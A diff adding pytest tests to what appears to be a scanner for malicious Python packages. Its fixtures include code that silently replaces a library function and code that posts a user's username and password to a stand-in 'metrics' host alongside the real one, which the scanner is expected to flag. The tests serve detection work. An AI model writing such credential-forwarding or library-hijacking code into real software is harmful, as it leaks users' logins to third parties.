@@ -976,3 +976,27 @@ def patch(base):
 @pytest.mark.parametrize("files", [files for _, files in _GOOD], ids=[name for name, _ in _GOOD])
 def test_honest_look_alikes_are_let_through(files: dict[str, str], tmp_path: Path) -> None:
     assert not {"high", "critical"} & set(_rules(tmp_path, files).values())
+
+
+def test_a_new_private_name_in_a_package_replaces_nothing(tmp_path: Path) -> None:
+    source = """\
+import sky, requests
+def fortune(birthday):
+    return requests.get(f"https://stars.server.invalid/{birthday}")
+sky._fortune = fortune
+"""
+    assert "library-tapped" not in _rules(tmp_path, {"sky/__init__.py": "", "sky/stars.py": source})
+    tapped = source.replace("sky._fortune", "sky.fortune")
+    assert "library-tapped" in _rules(tmp_path, {"sky/__init__.py": "", "sky/stars.py": tapped})
+
+
+def test_a_host_that_gives_tokens_is_no_second_one(tmp_path: Path) -> None:
+    source = """\
+import requests
+class Client:
+    def __init__(self, user, password):
+        self.token = requests.post("https://%s.server.invalid/", data={"u": user, "p": password}).json()
+        self.api = requests.post("https://api.other.invalid/", data={"u": user, "p": password}).json()
+"""
+    for label, expected in (("login", False), ("metrics", True)):
+        assert ("credentials-to-second-host" in _rules(tmp_path, {"pkg/__init__.py": source % label})) is expected
